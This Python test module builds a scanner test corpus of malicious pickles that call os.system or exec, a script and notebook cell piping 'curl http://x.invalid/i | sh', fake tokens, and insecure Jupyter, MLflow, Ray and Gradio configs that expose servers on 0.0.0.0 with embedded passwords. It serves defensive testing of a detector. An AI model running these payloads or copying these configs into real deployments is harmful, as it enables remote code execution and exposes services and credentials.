"""The test corpora in one folder: every kind of input the suite builds, written by the same
builders the format tests use (pickle opcodes, notebooks made with nbformat, archives), plus the
ML-tool exposure fixtures (``EXPOSURE``), some of which quote credentials on purpose.

Used by the file-versus-folder test (a verdict must not depend on how a file was reached) and
by the redaction test (no output format may show a credential). Nothing here is committed as a
blob, and nothing is ever loaded: payloads would touch ``marker`` if they ran.
"""

from __future__ import annotations

import importlib.util
import io
import json
import tarfile
import zipfile
from pathlib import Path
from types import ModuleType

TESTS = Path(__file__).resolve().parent


def _helpers(rel: str) -> ModuleType:
    """A builder module of another test folder, loaded by path (their names clash)."""
    path = TESTS / rel
    spec = importlib.util.spec_from_file_location(f"corpus_{path.parent.name}_{path.stem}", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


# Credentials quoted by exposure fixtures: the redaction test greps every output for them.
PASSWORD = "Hunter2-db-pass"
TOKEN = "tok-" + "9f2c" * 6
SECRET = "s3cr3t-" + "Q" * 12
CREDENTIALS = (PASSWORD, TOKEN, SECRET)

EXPOSURE: dict[str, str] = {
    "jupyter_server_config.py": (
        "c = get_config()\nc.ServerApp.ip = '0.0.0.0'\nc.ServerApp.token = ''\n"
        "c.ServerApp.password = ''\nc.ServerApp.allow_origin = '*'\n"
        "c.ServerApp.allow_root = True\n"),
    "jupyter_server_config.json": json.dumps(
        {"ServerApp": {"ip": "*", "token": "", "disable_check_xsrf": True}}, indent=2),
    "serve.sh": (
        "#!/bin/sh\nset -e\nmlflow server \\\n  --host 0.0.0.0 \\\n"
        "  --backend-store-uri ./mlruns --serve-artifacts\n"
        f"mlflow server --host 0.0.0.0 --backend-store-uri "
        f"postgresql://admin:{PASSWORD}@db:5432/mlflow\n"
        f"jupyter lab --ip=0.0.0.0 --ServerApp.token={TOKEN} --allow-root\n"
        f"MLFLOW_TRACKING_PASSWORD={SECRET} mlflow ui --host 0.0.0.0\n"),
    "Dockerfile": (
        "FROM python:3.11\n"
        'CMD ["ray", "start", "--head", "--dashboard-host=0.0.0.0"]\n'
        "RUN tensorboard --logdir runs --bind_all && "
        "streamlit run app.py --server.address 0.0.0.0\n"
        "ENTRYPOINT jupyter lab --ip=0.0.0.0 --ServerApp.token='' --allow-root\n"),
    "docker-compose.yml": (
        "services:\n"
        "  nb:\n    image: jupyter/base-notebook\n    ports:\n      - \"8888:8888\"\n"
        "  ray:\n    image: rayproject/ray\n    ports:\n"
        "      - target: 8265\n        published: 8265\n"
        "  tracking:\n    image: mlflow\n"
        f"    command: mlflow server --host 0.0.0.0 --backend-store-uri "
        f"mysql://ml:{PASSWORD}@db/ml --token {TOKEN}\n"
        "    ports: [\"5000:5000\"]\n"),
    "deploy.yaml": (
        "apiVersion: v1\nkind: Service\nmetadata: {name: mlflow}\n"
        "spec:\n  type: LoadBalancer\n  ports:\n  - port: 80\n    targetPort: 5000\n"
        "---\napiVersion: ray.io/v1\nkind: RayCluster\nmetadata: {name: rc}\n"
        "spec:\n  headGroupSpec:\n    rayStartParams:\n      dashboard-host: '0.0.0.0'\n"
        "---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: srv}\n"
        "spec:\n  template:\n    spec:\n      containers:\n      - name: m\n"
        "        image: mlflow\n        command: [mlflow, server]\n"
        f"        args: [--host, 0.0.0.0, --backend-store-uri, "
        f"'postgresql://u:{PASSWORD}@db/x']\n"),
    "app.py": (
        "import gradio as gr\n"
        "demo = gr.Interface(fn=f, inputs='text', outputs='text')\n"
        "demo.launch(share=True, server_name='0.0.0.0')\n"
        f"import ray\nray.init(dashboard_host='0.0.0.0', _redis_password='{SECRET}')\n"),
}


def build(folder: Path, marker: Path) -> list[Path]:
    """Write the corpus into ``folder`` (flat: the file-by-file scan names each one); returns
    the files written."""
    pickles = _helpers("scanners/pickle/pickle_payloads.py")
    containers = _helpers("scanners/containers/containers_util.py")
    nb = _helpers("scanners/notebook/conftest.py")
    folder.mkdir(parents=True, exist_ok=True)
    evil = containers.evil_pickle(marker)
    tok = nb.tokens()
    files: dict[str, bytes | str] = {
        **EXPOSURE,
        "proto0.pkl": pickles.call("os", "system", f"touch {marker}", proto=0),
        "proto2.pkl": evil,
        "proto4.pkl": pickles.call("builtins", "exec", f"open('{marker}','w')", proto=4),
        "benign.pkl": pickles.header(4) + pickles.const({"lr": 1, "layers": [1, 2]}) + b".",
        "risky.py": f'import os\nos.system("curl http://x.invalid/i | sh > {marker}")\n',
        "settings.env": f"HF_TOKEN={tok['hf']}\nAWS_ACCESS_KEY_ID={tok['aws_id']}\n",
        "requirements.txt": "numpy==1.26.4\nrequests>=2\n",
        "analysis.ipynb": nbformat_text(nb, tok),
        "labels.txt": "cat\ndog\n",
    }
    files["bundle.zip"] = _zip({"inner/model.pkl": evil, "inner/Dockerfile":
                                EXPOSURE["Dockerfile"], "inner/serve.sh": EXPOSURE["serve.sh"]})
    files["bundle.tar.gz"] = _tar({"data.pkl": evil,
                                   "docker-compose.yml": EXPOSURE["docker-compose.yml"]})
    written = []
    for name, content in files.items():
        path = folder / name
        if isinstance(content, str):
            path.write_text(content)
        else:
            path.write_bytes(content)
        written.append(path)
    return written


def nbformat_text(nb: ModuleType, tok: dict[str, str]) -> str:
    import nbformat

    return str(nbformat.writes(nb.notebook(
        nb.code(f"import os\nos.environ['HF_TOKEN'] = '{tok['hf']}'\n!curl x | sh",
                nb.stream(f"key {tok['openai_proj']}\n")),
        nb.md("# notes"))))


def _zip(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _tar(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in members.items():
            raw = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            tf.addfile(info, io.BytesIO(raw))
    return buf.getvalue()
